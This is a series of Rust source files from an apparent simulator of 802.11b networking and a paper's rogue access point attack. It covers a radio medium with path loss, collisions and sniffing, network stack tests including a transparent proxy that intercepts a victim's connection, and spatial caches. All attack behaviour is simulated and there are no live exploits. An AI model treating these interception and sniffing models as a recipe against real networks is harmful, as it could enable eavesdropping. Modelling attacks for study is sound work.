        let lh = p.b.tcp_listen(10101);
        // a routes everything via b.
        p.a.routes.add_default(IP_B, 0);

        let ch = p.a.tcp_connect(p.now, target, 80);
        p.pump(60);
        assert!(p.a.tcp_is_established(ch), "victim sees an open connection");
        let sh = p.b.tcp_accept(lh).expect("proxy accepted");
        // The victim believes it talks to TARGET:80.
        assert_eq!(p.a.tcp_peer(ch), Some((target, 80)));
        // Data flows both ways through the translation.
        p.a.tcp_send(p.now, ch, b"GET /file.tgz HTTP/1.0\r\n\r\n");
        p.pump(60);
        assert_eq!(p.b.tcp_recv(sh, 4096), b"GET /file.tgz HTTP/1.0\r\n\r\n");
        p.b.tcp_send(p.now, sh, b"HTTP/1.0 200 OK\r\n\r\n");
        p.pump(60);
        assert_eq!(p.a.tcp_recv(ch, 4096), b"HTTP/1.0 200 OK\r\n\r\n");
    }

    #[test]
    fn ttl_expiry_generates_time_exceeded() {
        let mut r = Host::new("r", SimRng::new(Seed(21)));
        let r0 = r.add_iface(MacAddr::local(2), Ipv4Addr::new(10, 0, 0, 1), 24);
        r.add_iface(MacAddr::local(3), Ipv4Addr::new(10, 0, 1, 1), 24);
        r.ip_forward = true;
        // Teach the router where the source lives so the error routes.
        r.arp_cache
            .insert(SimTime::ZERO, Ipv4Addr::new(10, 0, 0, 2), MacAddr::local(1));

        let mut pkt = Ipv4Packet::new(
            Ipv4Addr::new(10, 0, 0, 2),
            Ipv4Addr::new(10, 0, 1, 2),
            proto::UDP,
            UdpDatagram::new(1, 2, Bytes::from_static(b"x"))
                .encode(Ipv4Addr::new(10, 0, 0, 2), Ipv4Addr::new(10, 0, 1, 2)),
        );
        pkt.ttl = 1; // expires here
        let eth = EthFrame::new(MacAddr::local(2), MacAddr::local(1), ET_IPV4, pkt.encode());
        r.on_link_rx(SimTime::ZERO, r0, &eth.encode());
        let frames = r.take_frames();
        let icmp = frames.iter().find_map(|(_, f)| {
            let e = EthFrame::decode(f)?;
            let p = Ipv4Packet::decode(&e.payload)?;
            (p.protocol == proto::ICMP).then(|| IcmpMessage::decode(&p.payload))?
        });
        assert!(
            matches!(icmp, Some(IcmpMessage::TimeExceeded { .. })),
            "got {frames:?}"
        );
        assert_eq!(r.forwarded, 0, "expired packet must not be forwarded");
    }

    #[test]
    fn udp_closed_port_generates_port_unreachable() {
        let mut h = Host::new("h", SimRng::new(Seed(22)));
        let i0 = h.add_iface(MacAddr::local(2), IP_A, 24);
        h.arp_cache.insert(SimTime::ZERO, IP_B, MacAddr::local(1));
        let dg = UdpDatagram::new(1234, 9, Bytes::from_static(b"nobody-home"));
        let pkt = Ipv4Packet::new(IP_B, IP_A, proto::UDP, dg.encode(IP_B, IP_A));
        let eth = EthFrame::new(MacAddr::local(2), MacAddr::local(1), ET_IPV4, pkt.encode());
        h.on_link_rx(SimTime::ZERO, i0, &eth.encode());
        let frames = h.take_frames();
        let icmp = frames.iter().find_map(|(_, f)| {
            let e = EthFrame::decode(f)?;
            let p = Ipv4Packet::decode(&e.payload)?;
            (p.protocol == proto::ICMP).then(|| IcmpMessage::decode(&p.payload))?
        });
        assert!(
            matches!(icmp, Some(IcmpMessage::DestUnreachable { code: 3, .. })),
            "got {icmp:?}"
        );
    }

    #[test]
    fn self_echo_frames_ignored() {
        // A frame whose source MAC is one of our own interfaces (our own
        // transmission heard back through a co-channel radio) is dropped.
        let mut h = Host::new("h", SimRng::new(Seed(23)));
        let i0 = h.add_iface(MacAddr::local(1), IP_A, 24);
        let pkt = Ipv4Packet::new(
            IP_B,
            IP_A,
            proto::UDP,
            UdpDatagram::new(1, 2, Bytes::from_static(b"x")).encode(IP_B, IP_A),
        );
        let eth = EthFrame::new(MacAddr::local(1), MacAddr::local(1), ET_IPV4, pkt.encode());
        h.on_link_rx(SimTime::ZERO, i0, &eth.encode());
        assert_eq!(h.delivered, 0);
    }

    #[test]
    fn promiscuous_iface_sees_foreign_frames() {
        let mut h = Host::new("sniffer", SimRng::new(Seed(9)));
        let i0 = h.add_iface(MacAddr::local(1), IP_A, 24);
        // A frame between two other hosts.
        let pkt = Ipv4Packet::new(
            Ipv4Addr::new(192, 168, 0, 7),
            IP_A,
            proto::UDP,
            UdpDatagram::new(1, 2, Bytes::from_static(b"x"))
                .encode(Ipv4Addr::new(192, 168, 0, 7), IP_A),
        );
        let eth = EthFrame::new(
            MacAddr::local(42),
            MacAddr::local(43),
            ET_IPV4,
            pkt.encode(),
        );
        // Not addressed to us: dropped without promiscuous mode.
        h.on_link_rx(SimTime::ZERO, i0, &eth.encode());
        assert_eq!(h.delivered, 0);
        h.iface_mut(i0).promiscuous = true;
        h.on_link_rx(SimTime::ZERO, i0, &eth.encode());
        assert_eq!(h.delivered, 1);
    }
}
