//! Lazily-filled symmetric pairwise path-loss cache.
//!
//! `path_loss_db` runs a `sqrt` + `powi` + `log10` chain; the dense
//! medium used to evaluate it for every registered radio on every frame.
//! Positions change rarely (mobility steps) relative to frame rates, so
//! the loss between a pair of radios is a near-constant: this cache keys
//! it on the unordered radio pair plus each end's *position epoch* (a
//! per-radio counter bumped by `set_pos`), recomputing only when either
//! end has actually moved. Channel changes do not touch positions and
//! therefore never invalidate an entry.
//!
//! Lookups go through interior mutability so read-shaped APIs
//! ([`crate::Medium::rssi_estimate_dbm`], site-audit range predictions)
//! can fill the cache from `&self`. Since PR 8 the interior mutability
//! is thread-safe (`Mutex` + atomics, not `RefCell` + `Cell`): the
//! sharded loop shares `&Medium` across the rayon pool during its
//! read-only plan phase, which requires `Medium: Sync`. The plan phase
//! itself never touches the cache — fills happen only in serial code —
//! and every fill is a pure function of its key, so the swap cannot
//! perturb a single cached bit.

use std::collections::HashMap;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Mutex;

use crate::propagation::{path_loss_db, Pos};

/// One cache endpoint: radio index, current position, position epoch.
pub(crate) type End = (u32, Pos, u64);

#[derive(Debug)]
struct Entry {
    /// Position epochs of the (lower, higher) radio index at fill time.
    epochs: (u64, u64),
    loss_db: f64,
}

/// The pairwise gain matrix, filled on demand.
#[derive(Debug, Default)]
pub(crate) struct PathLossCache {
    entries: Mutex<HashMap<(u32, u32), Entry>>,
    hits: AtomicU64,
    misses: AtomicU64,
}

impl PathLossCache {
    /// Path loss between radios `a` and `b`, cached per (pair, position
    /// epochs). Bit-identical to calling [`path_loss_db`] directly:
    /// Euclidean distance is exactly symmetric, so the unordered key
    /// cannot change the value.
    pub fn loss_db(&self, a: End, b: End, ref_loss_db: f64, exponent: f64) -> f64 {
        let (lo, hi) = if a.0 <= b.0 { (a, b) } else { (b, a) };
        let key = (lo.0, hi.0);
        let epochs = (lo.2, hi.2);
        if let Some(e) = self.entries.lock().unwrap().get(&key) {
            if e.epochs == epochs {
                self.hits.fetch_add(1, Ordering::Relaxed);
                return e.loss_db;
            }
        }
        self.misses.fetch_add(1, Ordering::Relaxed);
        let loss_db = path_loss_db(lo.1.distance(hi.1), ref_loss_db, exponent);
        self.entries
            .lock()
            .unwrap()
            .insert(key, Entry { epochs, loss_db });
        loss_db
    }

    /// (cached pairs, lookup hits, lookup misses).
    pub fn stats(&self) -> (usize, u64, u64) {
        (
            self.entries.lock().unwrap().len(),
            self.hits.load(Ordering::Relaxed),
            self.misses.load(Ordering::Relaxed),
        )
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn caches_and_is_symmetric() {
        let c = PathLossCache::default();
        let a = (0u32, Pos::new(0.0, 0.0), 0u64);
        let b = (1u32, Pos::new(30.0, 40.0), 0u64);
        let fresh = path_loss_db(50.0, 40.0, 3.0);
        assert_eq!(c.loss_db(a, b, 40.0, 3.0).to_bits(), fresh.to_bits());
        assert_eq!(c.loss_db(b, a, 40.0, 3.0).to_bits(), fresh.to_bits());
        let (len, hits, misses) = c.stats();
        assert_eq!((len, hits, misses), (1, 1, 1), "second lookup must hit");
    }

    #[test]
    fn position_epoch_invalidates() {
        let c = PathLossCache::default();
        let a = (0u32, Pos::new(0.0, 0.0), 0u64);
        let near = c.loss_db(a, (1, Pos::new(10.0, 0.0), 0), 40.0, 3.0);
        // Radio 1 moved: same pair, new epoch → recompute, not the stale
        // cached value.
        let far = c.loss_db(a, (1, Pos::new(100.0, 0.0), 1), 40.0, 3.0);
        assert!(far > near);
        assert_eq!(
            far.to_bits(),
            path_loss_db(100.0, 40.0, 3.0).to_bits(),
            "stale entry must not be served after a move"
        );
    }
}
