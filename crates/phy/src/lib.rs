//! # rogue-phy — the 802.11b radio medium
//!
//! The paper's attack begins at the physical layer: "the inherent broadcast
//! nature of the wireless physical layer … doesn't benefit from the
//! restricted physical access of traditional wired networks" (§3). This
//! crate models that broadcast medium:
//!
//! * [`Pos`] — 2-D positions in metres,
//! * log-distance path loss with optional log-normal shadowing,
//! * 2.4 GHz channels 1–14 with adjacent-channel interference (the paper's
//!   Figure 1 puts the valid AP on channel 1 and the rogue on channel 6),
//! * 802.11b [`Bitrate`]s with long-preamble airtime,
//! * a [`Medium`] that computes, per transmission, which radios decode the
//!   frame, at what RSSI, and which receptions are destroyed by collisions.
//!
//! Every radio on the transmitter's channel that clears the SINR threshold
//! receives the bytes — including an attacker's monitor-mode radio, which
//! is all "sniffing" is.

mod cache;
mod grid;
pub mod medium;
pub mod propagation;
pub mod region;

pub use medium::{Delivery, Medium, MediumParams, RadioId, TxHandle, TxPlan};
pub use propagation::{Bitrate, Pos, CHANNEL_SPACING_NONOVERLAP};
pub use region::RegionMap;
