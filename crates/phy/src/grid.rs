//! Uniform spatial hash over radio positions.
//!
//! `begin_tx` only needs the radios inside the transmitter's audible
//! radius (see [`crate::propagation::max_range_m`]); the grid turns that
//! query from O(registry) into O(cells in range). Cells are a hash map,
//! so the floor can be any size and positions any coordinates without
//! preallocating an arena.

use std::collections::HashMap;

use crate::propagation::Pos;

/// Cell edge in metres. Chosen near a third of the default 15 dBm decode
/// horizon (~200 m): candidate squares stay a few cells wide while dense
/// deployments don't collapse into one giant cell.
const CELL_M: f64 = 64.0;

/// The grid: radio indices bucketed by cell.
#[derive(Debug, Default)]
pub(crate) struct SpatialGrid {
    cells: HashMap<(i32, i32), Vec<u32>>,
}

fn key(pos: Pos) -> (i32, i32) {
    (
        (pos.x / CELL_M).floor() as i32,
        (pos.y / CELL_M).floor() as i32,
    )
}

impl SpatialGrid {
    /// Register a radio at `pos`.
    pub fn insert(&mut self, idx: u32, pos: Pos) {
        self.cells.entry(key(pos)).or_default().push(idx);
    }

    /// Move a radio (cell membership only; a same-cell move is free).
    pub fn relocate(&mut self, idx: u32, old: Pos, new: Pos) {
        let (from, to) = (key(old), key(new));
        if from == to {
            return;
        }
        if let Some(cell) = self.cells.get_mut(&from) {
            if let Some(i) = cell.iter().position(|&r| r == idx) {
                cell.swap_remove(i);
                if cell.is_empty() {
                    self.cells.remove(&from);
                }
            }
        }
        self.cells.entry(to).or_default().push(idx);
    }

    /// Append every radio in a cell intersecting the square of
    /// half-width `radius_m` around `center` to `out` (unsorted; a
    /// superset of the radios within `radius_m`).
    pub fn collect_in_square(&self, center: Pos, radius_m: f64, out: &mut Vec<u32>) {
        let (x0, y0) = key(Pos::new(center.x - radius_m, center.y - radius_m));
        let (x1, y1) = key(Pos::new(center.x + radius_m, center.y + radius_m));
        for cy in y0..=y1 {
            for cx in x0..=x1 {
                if let Some(cell) = self.cells.get(&(cx, cy)) {
                    out.extend_from_slice(cell);
                }
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn collected(g: &SpatialGrid, center: Pos, r: f64) -> Vec<u32> {
        let mut v = Vec::new();
        g.collect_in_square(center, r, &mut v);
        v.sort_unstable();
        v
    }

    #[test]
    fn query_returns_superset_of_radius() {
        let mut g = SpatialGrid::default();
        g.insert(0, Pos::new(0.0, 0.0));
        g.insert(1, Pos::new(50.0, 0.0));
        g.insert(2, Pos::new(1000.0, 1000.0));
        let near = collected(&g, Pos::new(0.0, 0.0), 60.0);
        assert!(near.contains(&0) && near.contains(&1));
        assert!(!near.contains(&2), "far cell must be culled");
    }

    #[test]
    fn relocate_tracks_cell_changes() {
        let mut g = SpatialGrid::default();
        g.insert(7, Pos::new(0.0, 0.0));
        g.relocate(7, Pos::new(0.0, 0.0), Pos::new(500.0, 0.0));
        assert!(!collected(&g, Pos::new(0.0, 0.0), 10.0).contains(&7));
        assert!(collected(&g, Pos::new(500.0, 0.0), 10.0).contains(&7));
        // Negative coordinates hash fine too.
        g.relocate(7, Pos::new(500.0, 0.0), Pos::new(-500.0, -500.0));
        assert!(collected(&g, Pos::new(-500.0, -500.0), 10.0).contains(&7));
    }
}
