//! The shared broadcast medium.
//!
//! Protocol flow per transmission:
//!
//! 1. A MAC hands bytes to [`Medium::begin_tx`]; the medium computes the
//!    airtime and the received power at every registered radio (sampling
//!    shadowing deterministically from the medium RNG).
//! 2. The world schedules a completion event at the returned end time and
//!    then calls [`Medium::complete_tx`], which decides per radio whether
//!    the frame decodes: on-channel, above sensitivity, and with
//!    sufficient SINR against every time-overlapping transmission
//!    (collisions, including adjacent-channel leakage).
//! 3. Each successful [`Delivery`] carries the bytes and measured RSSI —
//!    the exact observables of a real NIC, whether it belongs to the
//!    addressed station or to an attacker sniffing in monitor mode.

use bytes::Bytes;
use rogue_sim::{Seed, SimRng, SimTime};

use crate::propagation::{aci_rejection_db, dbm_to_mw, path_loss_db, Bitrate, Pos};

/// Identifies a registered radio.
#[derive(Clone, Copy, PartialEq, Eq, Hash, Debug)]
pub struct RadioId(pub u32);

/// Handle to an in-flight transmission.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub struct TxHandle(u64);

/// Tunable propagation / receiver parameters.
#[derive(Clone, Debug)]
pub struct MediumParams {
    /// Path-loss exponent (2.0 free space … 3.5 dense indoor).
    pub path_loss_exponent: f64,
    /// Reference loss at 1 m, dB.
    pub ref_loss_db: f64,
    /// Log-normal shadowing standard deviation, dB (0 disables).
    pub shadowing_sigma_db: f64,
    /// Thermal-plus-card noise floor, dBm.
    pub noise_floor_dbm: f64,
    /// Clear-channel-assessment threshold, dBm.
    pub cca_threshold_dbm: f64,
}

impl Default for MediumParams {
    fn default() -> Self {
        MediumParams {
            path_loss_exponent: 3.0,
            ref_loss_db: 40.0,
            shadowing_sigma_db: 0.0,
            noise_floor_dbm: -100.0,
            cca_threshold_dbm: -85.0,
        }
    }
}

#[derive(Clone, Debug)]
struct Radio {
    pos: Pos,
    channel: u8,
    tx_power_dbm: f64,
    enabled: bool,
}

#[derive(Clone, Debug)]
struct Transmission {
    id: u64,
    src: RadioId,
    channel: u8,
    bitrate: Bitrate,
    start: SimTime,
    end: SimTime,
    bytes: Bytes,
    /// Received power at each radio (by index) sampled at start; radios
    /// registered later are treated as out of range.
    rx_power_dbm: Vec<f64>,
    completed: bool,
}

/// A successfully decoded frame at one radio.
#[derive(Clone, Debug)]
pub struct Delivery {
    /// The receiving radio.
    pub to: RadioId,
    /// Frame bytes (shared, zero-copy).
    pub bytes: Bytes,
    /// Received signal strength, dBm.
    pub rssi_dbm: f64,
    /// Channel the frame was received on.
    pub channel: u8,
    /// Rate it was decoded at.
    pub bitrate: Bitrate,
}

/// The broadcast medium: all registered radios, all in-flight and recent
/// transmissions.
pub struct Medium {
    params: MediumParams,
    radios: Vec<Radio>,
    txs: Vec<Transmission>,
    rng: SimRng,
    next_tx_id: u64,
    /// Collision/decode statistics.
    pub frames_sent: u64,
    /// Receptions lost because the radio was itself transmitting during
    /// the frame's airtime (half-duplex deafness).
    pub halfduplex_misses: u64,
    /// Receptions destroyed by insufficient SINR against overlapping
    /// transmissions (true collisions, incl. adjacent-channel leakage).
    pub sinr_drops: u64,
}

impl Medium {
    /// New medium with the given parameters; `seed` drives shadowing.
    pub fn new(params: MediumParams, seed: Seed) -> Medium {
        Medium {
            params,
            radios: Vec::new(),
            txs: Vec::new(),
            rng: SimRng::new(seed.fork(0x9097)),
            next_tx_id: 0,
            frames_sent: 0,
            halfduplex_misses: 0,
            sinr_drops: 0,
        }
    }

    /// Total destroyed receptions, either cause (the pre-split counter).
    pub fn collisions(&self) -> u64 {
        self.halfduplex_misses + self.sinr_drops
    }

    /// Register a radio. Radios are half-duplex and initially enabled.
    pub fn add_radio(&mut self, pos: Pos, channel: u8, tx_power_dbm: f64) -> RadioId {
        assert!((1..=14).contains(&channel), "invalid 802.11b channel");
        self.radios.push(Radio {
            pos,
            channel,
            tx_power_dbm,
            enabled: true,
        });
        RadioId(self.radios.len() as u32 - 1)
    }

    /// Move a radio (client mobility).
    pub fn set_pos(&mut self, id: RadioId, pos: Pos) {
        self.radios[id.0 as usize].pos = pos;
    }

    /// Current position of a radio.
    pub fn pos(&self, id: RadioId) -> Pos {
        self.radios[id.0 as usize].pos
    }

    /// Retune a radio (channel hopping during scans / site audits).
    pub fn set_channel(&mut self, id: RadioId, channel: u8) {
        assert!((1..=14).contains(&channel), "invalid 802.11b channel");
        self.radios[id.0 as usize].channel = channel;
    }

    /// Channel a radio is currently tuned to.
    pub fn channel(&self, id: RadioId) -> u8 {
        self.radios[id.0 as usize].channel
    }

    /// Enable or disable (power off) a radio.
    pub fn set_enabled(&mut self, id: RadioId, enabled: bool) {
        self.radios[id.0 as usize].enabled = enabled;
    }

    /// Deterministic (shadowing-free) received power estimate of `from`'s
    /// transmitter at `to`'s position — used by tooling (site-audit range
    /// predictions), not by the decode path.
    pub fn rssi_estimate_dbm(&self, from: RadioId, to: RadioId) -> f64 {
        let f = &self.radios[from.0 as usize];
        let t = &self.radios[to.0 as usize];
        f.tx_power_dbm
            - path_loss_db(
                f.pos.distance(t.pos),
                self.params.ref_loss_db,
                self.params.path_loss_exponent,
            )
    }

    /// Begin transmitting `bytes` from `src` at `bitrate` on the radio's
    /// current channel. Returns a handle and the airtime-end instant at
    /// which the caller must invoke [`Medium::complete_tx`].
    pub fn begin_tx(
        &mut self,
        now: SimTime,
        src: RadioId,
        bytes: Bytes,
        bitrate: Bitrate,
    ) -> (TxHandle, SimTime) {
        let radio = &self.radios[src.0 as usize];
        assert!(radio.enabled, "transmitting on a disabled radio");
        let end = now + bitrate.airtime(bytes.len());
        let channel = radio.channel;
        let tx_power = radio.tx_power_dbm;
        let src_pos = radio.pos;

        let sigma = self.params.shadowing_sigma_db;
        let mut rx_power = Vec::with_capacity(self.radios.len());
        for r in &self.radios {
            let mut p = tx_power
                - path_loss_db(
                    src_pos.distance(r.pos),
                    self.params.ref_loss_db,
                    self.params.path_loss_exponent,
                );
            if sigma > 0.0 {
                p += self.rng.gaussian(0.0, sigma);
            }
            rx_power.push(p);
        }

        let id = self.next_tx_id;
        self.next_tx_id += 1;
        self.frames_sent += 1;
        self.txs.push(Transmission {
            id,
            src,
            channel,
            bitrate,
            start: now,
            end,
            bytes,
            rx_power_dbm: rx_power,
            completed: false,
        });
        self.prune(now);
        (TxHandle(id), end)
    }

    /// Complete a transmission, returning all successful deliveries. Must
    /// be called exactly once, at the end time returned by `begin_tx`.
    pub fn complete_tx(&mut self, now: SimTime, handle: TxHandle) -> Vec<Delivery> {
        let idx = self
            .txs
            .iter()
            .position(|t| t.id == handle.0)
            .expect("unknown or pruned transmission");
        assert!(!self.txs[idx].completed, "complete_tx called twice");
        assert_eq!(self.txs[idx].end, now, "complete_tx at wrong time");
        self.txs[idx].completed = true;

        // Borrow the record in place — the tx (and its payload) is never
        // cloned; deliveries refcount `tx.bytes` instead.
        let tx = &self.txs[idx];
        let noise_mw = dbm_to_mw(self.params.noise_floor_dbm);
        let mut out = Vec::new();
        let mut halfduplex_misses = 0;
        let mut sinr_drops = 0;

        for (ri, radio) in self.radios.iter().enumerate() {
            let rid = RadioId(ri as u32);
            if rid == tx.src || !radio.enabled || radio.channel != tx.channel {
                continue;
            }
            let signal_dbm = match tx.rx_power_dbm.get(ri) {
                Some(&p) => p,
                None => continue, // radio registered mid-flight
            };
            if signal_dbm < tx.bitrate.sensitivity_dbm() {
                continue;
            }
            // Half-duplex: a radio that transmitted during any part of our
            // airtime heard nothing.
            let was_transmitting = self
                .txs
                .iter()
                .any(|o| o.id != tx.id && o.src == rid && overlaps(o, tx));
            if was_transmitting {
                halfduplex_misses += 1;
                continue;
            }
            // Interference from every other overlapping transmission.
            let mut interf_mw = 0.0;
            for o in &self.txs {
                if o.id == tx.id || !overlaps(o, tx) || o.src == rid {
                    continue;
                }
                let offset = o.channel.abs_diff(radio.channel);
                let Some(rej) = aci_rejection_db(offset) else {
                    continue;
                };
                if let Some(&p) = o.rx_power_dbm.get(ri) {
                    interf_mw += dbm_to_mw(p - rej);
                }
            }
            let sinr_db = signal_dbm - 10.0 * (noise_mw + interf_mw).log10();
            if sinr_db < tx.bitrate.sinr_threshold_db() {
                sinr_drops += 1;
                continue;
            }
            out.push(Delivery {
                to: rid,
                bytes: tx.bytes.clone(),
                rssi_dbm: signal_dbm,
                channel: tx.channel,
                bitrate: tx.bitrate,
            });
        }
        self.halfduplex_misses += halfduplex_misses;
        self.sinr_drops += sinr_drops;
        out
    }

    /// Carrier sense: is any in-flight transmission audible at `radio`
    /// above the CCA threshold (including adjacent-channel energy)?
    pub fn channel_busy(&self, now: SimTime, radio: RadioId) -> bool {
        let r = &self.radios[radio.0 as usize];
        self.txs.iter().any(|t| {
            t.start <= now
                && now < t.end
                && t.src != radio
                && aci_rejection_db(t.channel.abs_diff(r.channel))
                    .map(|rej| {
                        t.rx_power_dbm
                            .get(radio.0 as usize)
                            .is_some_and(|&p| p - rej >= self.params.cca_threshold_dbm)
                    })
                    .unwrap_or(false)
        })
    }

    /// Number of registered radios.
    pub fn radio_count(&self) -> usize {
        self.radios.len()
    }

    /// Transmission records currently retained (in-flight plus completed
    /// ones that still overlap an in-flight frame) — the working-set the
    /// `complete_tx` scans walk. Exposed for tests and benches.
    pub fn tx_backlog(&self) -> usize {
        self.txs.len()
    }

    /// Drop completed transmissions that can no longer overlap anything.
    ///
    /// A completed record matters only while it can interfere with a
    /// frame still in the air (or one begun later — which starts at
    /// `now` or after). Both are bounded below by `horizon`: the
    /// earliest in-flight start, or `now` when the air is clear. A
    /// completed tx ending at or before `horizon` can never satisfy
    /// `overlaps` again, so dropping it cannot change any SINR sum.
    fn prune(&mut self, now: SimTime) {
        let horizon = self
            .txs
            .iter()
            .filter(|t| !t.completed)
            .map(|t| t.start)
            .min()
            .unwrap_or(now);
        self.txs.retain(|t| !t.completed || t.end > horizon);
    }
}

fn overlaps(a: &Transmission, b: &Transmission) -> bool {
    a.start < b.end && b.start < a.end
}

#[cfg(test)]
mod tests {
    use super::*;

    fn medium() -> Medium {
        Medium::new(MediumParams::default(), Seed(1))
    }

    fn bytes(n: usize) -> Bytes {
        Bytes::from(vec![0xA5u8; n])
    }

    #[test]
    fn nearby_radio_receives() {
        let mut m = medium();
        let a = m.add_radio(Pos::new(0.0, 0.0), 1, 15.0);
        let b = m.add_radio(Pos::new(10.0, 0.0), 1, 15.0);
        let (h, end) = m.begin_tx(SimTime::ZERO, a, bytes(100), Bitrate::B11);
        let ds = m.complete_tx(end, h);
        assert_eq!(ds.len(), 1);
        assert_eq!(ds[0].to, b);
        assert_eq!(ds[0].bytes.len(), 100);
        // 15 dBm - (40 + 30·log10(10)) = 15 - 70 = -55 dBm.
        assert!((ds[0].rssi_dbm - -55.0).abs() < 1e-9);
    }

    #[test]
    fn out_of_range_radio_misses() {
        let mut m = medium();
        let a = m.add_radio(Pos::new(0.0, 0.0), 1, 15.0);
        let _far = m.add_radio(Pos::new(2000.0, 0.0), 1, 15.0);
        let (h, end) = m.begin_tx(SimTime::ZERO, a, bytes(100), Bitrate::B11);
        assert!(m.complete_tx(end, h).is_empty());
    }

    #[test]
    fn off_channel_radio_misses_but_nonoverlap_no_interference() {
        let mut m = medium();
        let a = m.add_radio(Pos::new(0.0, 0.0), 1, 15.0);
        let _b = m.add_radio(Pos::new(10.0, 0.0), 6, 15.0);
        let (h, end) = m.begin_tx(SimTime::ZERO, a, bytes(100), Bitrate::B11);
        assert!(
            m.complete_tx(end, h).is_empty(),
            "channel 6 cannot decode channel 1"
        );
    }

    #[test]
    fn broadcast_reaches_all_on_channel() {
        let mut m = medium();
        let a = m.add_radio(Pos::new(0.0, 0.0), 6, 15.0);
        let _b = m.add_radio(Pos::new(10.0, 0.0), 6, 15.0);
        let _c = m.add_radio(Pos::new(0.0, 20.0), 6, 15.0);
        let _sniffer = m.add_radio(Pos::new(30.0, 30.0), 6, 15.0);
        let (h, end) = m.begin_tx(SimTime::ZERO, a, bytes(64), Bitrate::B1);
        let ds = m.complete_tx(end, h);
        assert_eq!(
            ds.len(),
            3,
            "everyone in range hears broadcast, incl. sniffer"
        );
    }

    #[test]
    fn same_channel_overlap_collides() {
        let mut m = medium();
        let a = m.add_radio(Pos::new(0.0, 0.0), 1, 15.0);
        let b = m.add_radio(Pos::new(20.0, 0.0), 1, 15.0);
        let _victim = m.add_radio(Pos::new(10.0, 0.0), 1, 15.0);
        // Two equal-power transmissions fully overlapping at the victim.
        let (h1, e1) = m.begin_tx(SimTime::ZERO, a, bytes(200), Bitrate::B11);
        let (h2, e2) = m.begin_tx(SimTime::ZERO, b, bytes(200), Bitrate::B11);
        let d1 = m.complete_tx(e1, h1);
        let d2 = m.complete_tx(e2, h2);
        // Equal power => SINR ≈ 0 dB < 10 dB threshold: both die at victim.
        // (a and b themselves were transmitting, so receive nothing either.)
        assert!(d1.is_empty() && d2.is_empty());
        // The victim's two losses are SINR kills; a and b were deaf
        // because they were transmitting — distinct counters.
        assert_eq!(m.sinr_drops, 2, "victim loses both frames to SINR");
        assert_eq!(m.halfduplex_misses, 2, "each tx radio deaf to the other");
        assert_eq!(m.collisions(), 4, "total preserves the pre-split sum");
    }

    #[test]
    fn capture_effect_stronger_frame_survives() {
        let mut m = medium();
        let strong = m.add_radio(Pos::new(1.0, 0.0), 1, 20.0);
        let weak = m.add_radio(Pos::new(200.0, 0.0), 1, 10.0);
        let victim = m.add_radio(Pos::new(0.0, 0.0), 1, 15.0);
        let (h1, e1) = m.begin_tx(SimTime::ZERO, strong, bytes(100), Bitrate::B11);
        let (h2, e2) = m.begin_tx(SimTime::ZERO, weak, bytes(100), Bitrate::B11);
        let d1 = m.complete_tx(e1, h1);
        let d2 = m.complete_tx(e2, h2);
        assert!(d1.iter().any(|d| d.to == victim), "strong frame captures");
        assert!(!d2.iter().any(|d| d.to == victim), "weak frame lost");
    }

    #[test]
    fn half_duplex_transmitter_hears_nothing() {
        let mut m = medium();
        let a = m.add_radio(Pos::new(0.0, 0.0), 1, 15.0);
        let b = m.add_radio(Pos::new(5.0, 0.0), 1, 15.0);
        let (h1, e1) = m.begin_tx(SimTime::ZERO, a, bytes(1000), Bitrate::B1);
        // b transmits briefly during a's long frame.
        let (h2, e2) = m.begin_tx(SimTime::ZERO, b, bytes(10), Bitrate::B11);
        let d2 = m.complete_tx(e2, h2);
        assert!(
            !d2.iter().any(|d| d.to == a),
            "a is mid-transmission, cannot receive"
        );
        let d1 = m.complete_tx(e1, h1);
        assert!(
            !d1.iter().any(|d| d.to == b),
            "b transmitted during a's frame"
        );
    }

    #[test]
    fn channel_busy_reflects_inflight_tx() {
        let mut m = medium();
        let a = m.add_radio(Pos::new(0.0, 0.0), 1, 15.0);
        let b = m.add_radio(Pos::new(10.0, 0.0), 1, 15.0);
        let off = m.add_radio(Pos::new(10.0, 0.0), 11, 15.0);
        assert!(!m.channel_busy(SimTime::ZERO, b));
        let (_h, end) = m.begin_tx(SimTime::ZERO, a, bytes(500), Bitrate::B1);
        let mid = SimTime(end.as_nanos() / 2);
        assert!(m.channel_busy(mid, b));
        assert!(!m.channel_busy(mid, off), "channel 11 clear of channel 1");
        assert!(!m.channel_busy(end, b), "ended tx no longer busy");
    }

    #[test]
    fn disabled_radio_neither_sends_nor_receives() {
        let mut m = medium();
        let a = m.add_radio(Pos::new(0.0, 0.0), 1, 15.0);
        let b = m.add_radio(Pos::new(10.0, 0.0), 1, 15.0);
        m.set_enabled(b, false);
        let (h, end) = m.begin_tx(SimTime::ZERO, a, bytes(10), Bitrate::B1);
        assert!(m.complete_tx(end, h).is_empty());
    }

    #[test]
    fn retune_changes_reception() {
        let mut m = medium();
        let a = m.add_radio(Pos::new(0.0, 0.0), 6, 15.0);
        let b = m.add_radio(Pos::new(10.0, 0.0), 1, 15.0);
        m.set_channel(b, 6);
        assert_eq!(m.channel(b), 6);
        let (h, end) = m.begin_tx(SimTime::ZERO, a, bytes(10), Bitrate::B1);
        assert_eq!(m.complete_tx(end, h).len(), 1);
    }

    #[test]
    fn mobility_changes_rssi() {
        let mut m = medium();
        let a = m.add_radio(Pos::new(0.0, 0.0), 1, 15.0);
        let b = m.add_radio(Pos::new(10.0, 0.0), 1, 15.0);
        let near = m.rssi_estimate_dbm(a, b);
        m.set_pos(b, Pos::new(40.0, 0.0));
        let far = m.rssi_estimate_dbm(a, b);
        assert!(near > far);
    }

    #[test]
    #[should_panic(expected = "complete_tx called twice")]
    fn double_complete_panics() {
        let mut m = medium();
        let a = m.add_radio(Pos::new(0.0, 0.0), 1, 15.0);
        let (h, end) = m.begin_tx(SimTime::ZERO, a, bytes(10), Bitrate::B1);
        m.complete_tx(end, h);
        m.complete_tx(end, h);
    }

    #[test]
    fn adjacent_channel_interference_corrupts() {
        // A strong adjacent-channel (offset 1) interferer leaks enough
        // energy past the 12 dB rejection to destroy a marginal frame.
        let mut m = medium();
        let tx = m.add_radio(Pos::new(0.0, 0.0), 6, 15.0);
        let victim_rx = m.add_radio(Pos::new(60.0, 0.0), 6, 15.0); // ~ -68 dBm
        let jammer = m.add_radio(Pos::new(61.0, 0.0), 7, 20.0); // loud, next door
        let _ = victim_rx;
        let (h1, e1) = m.begin_tx(SimTime::ZERO, tx, bytes(200), Bitrate::B11);
